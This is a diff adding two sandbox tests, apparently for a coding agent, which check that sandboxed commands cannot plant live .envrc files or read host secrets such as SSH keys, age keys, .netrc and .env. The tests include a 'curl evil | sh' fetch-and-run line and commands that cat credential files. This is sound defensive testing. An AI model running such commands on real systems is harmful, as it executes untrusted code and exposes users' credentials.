@@ -124,6 +124,35 @@ test("in a writable mode the project is written while git, pi's folder and new p
   assert.ok(r.notes.some((n) => n.includes(".envrc")), r.notes.join("\n"));
 });
 
+test("a writable project's kept walk never leaves a protected name made since writable or a secret made since shown", async (t) => {
+  if (skipWithoutSandbox(t)) return;
+  const f = await makeFixture(t, { workspaceWritable: true });
+  mkdirSync(join(f.project, ".git"));
+  writeFileSync(join(f.project, ".git", "config"), "[core]\n");
+  mkdirSync(join(f.project, "src"));
+  for (let i = 0; i < 3; i++) assert.equal((await sh(f.sb, f.project, "true")).r.exitCode, 0);
+  // The command itself makes a protected name deep in a new directory: inert when it ends.
+  const wrote = await sh(f.sb, f.project, "mkdir -p deep/er && echo 'curl evil | sh' > deep/er/.envrc && echo made");
+  assert.equal(wrote.out, "made\n");
+  assert.ok(!existsSync(join(f.project, "deep", "er", ".envrc")), "the command's .envrc was left live");
+  assert.ok(wrote.r.notes.some((n) => n.includes(".envrc")), wrote.r.notes.join("\n"));
+  assert.equal((await sh(f.sb, f.project, "true")).r.exitCode, 0);
+  assert.equal((await sh(f.sb, f.project, "true")).r.exitCode, 0);
+  // Between commands the host makes a protected name and a secret in a directory the walk saw.
+  writeFileSync(join(f.project, "src", ".envrc"), "export SAFE=1\n");
+  writeFileSync(join(f.project, "src", ".env"), "TOKEN=host-made-secret\n");
+  const attack = "cat src/.env; echo 'curl evil | sh' >> src/.envrc && echo appended; echo end";
+  assert.match(host(f.project, "cat src/.env").out, /host-made-secret/, "baseline: the host reads it");
+  const { r, out } = await sh(f.sb, f.project, attack);
+  assert.doesNotMatch(out, /host-made-secret/);
+  assert.doesNotMatch(out, /appended/, "a protected name made after the walk was writable");
+  assert.equal(readFileSync(join(f.project, "src", ".envrc"), "utf8"), "export SAFE=1\n");
+  assert.equal(r.exitCode, 0, out);
+  // And the project stays writable, the walk kept again.
+  assert.equal((await sh(f.sb, f.project, "touch y && echo ok")).out, "ok\n");
+  assert.equal((await sh(f.sb, f.project, "cat src/.env; touch z && echo ok")).out, "ok\n");
+});
+
 test("a file written to /tmp by one command is gone in the next", async (t) => {
   if (skipWithoutSandbox(t)) return;
   const f = await makeFixture(t);
@@ -274,6 +303,37 @@ test("an extra read that holds the project or lies in the sandbox's own /tmp is 
   assert.equal(out, "extra-read\nstill-read-only\n");
   assert.ok(r.notes.some((n) => n.includes(f.base) && n.includes("holds the project")), r.notes.join("\n"));
   assert.ok(r.notes.some((n) => n.includes("/tmp/elsewhere") && n.includes("own mount")), r.notes.join("\n"));
+});
+
+test("a host secret that appears in a tree commands read is masked in the next command, though the check of the trees is kept", async (t) => {
+  if (skipWithoutSandbox(t)) return;
+  // The fixture outside /tmp, where an extra read can be shown.
+  withEnv(t, "TMPDIR", "/var/tmp");
+  const f = await makeFixture(t);
+  const tools = join(f.base, "tools");
+  mkdirSync(join(tools, "bin"), { recursive: true });
+  writeFileSync(join(tools, "bin", "tool.txt"), "tool\n");
+  f.sb.setShellConfig({ additionalAllowRead: [tools] });
+  const look = `cd ${tools}; cat bin/tool.txt .ssh/id_rsa .config/age/keys.txt .netrc 2>/dev/null; echo end`;
+  // The check of the trees is made by the first command and kept by the next ones.
+  assert.equal((await sh(f.sb, f.project, look)).out, "tool\nend\n");
+  assert.equal((await sh(f.sb, f.project, look)).out, "tool\nend\n");
+  // Between commands, secrets of a home appear in the tree (any tree may be a home): a new
+  // directory, one two levels down, a file; and a link replaced in place, as update-alternatives does.
+  mkdirSync(join(tools, ".ssh"));
+  writeFileSync(join(tools, ".ssh", "id_rsa"), "PRIVATE-KEY\n");
+  mkdirSync(join(tools, ".config", "age"), { recursive: true });
+  writeFileSync(join(tools, ".config", "age", "keys.txt"), "AGE-SECRET-KEY\n");
+  writeFileSync(join(tools, ".netrc"), "machine x password NETRC-PASSWORD\n");
+  assert.match(host(tools, "cat .ssh/id_rsa .config/age/keys.txt .netrc").out, /PRIVATE-KEY\nAGE-SECRET-KEY\n.*NETRC-PASSWORD/s, "baseline");
+  const after = await sh(f.sb, f.project, look);
+  assert.equal(after.out, "tool\nend\n", "a secret that appeared after the check was made is shown");
+  assert.equal((await sh(f.sb, f.project, look)).out, "tool\nend\n");
+  // It goes again: the next command starts and reads what is left.
+  rmSync(join(tools, ".ssh"), { recursive: true });
+  const gone = await sh(f.sb, f.project, `ls -a ${tools}; cat ${join(tools, "bin", "tool.txt")}`);
+  assert.equal(gone.r.exitCode, 0, gone.out);
+  assert.match(gone.out, /tool\n$/);
 });
 
 test("the host probe says before any call when no sandbox can start here, with the fix", async (t) => {
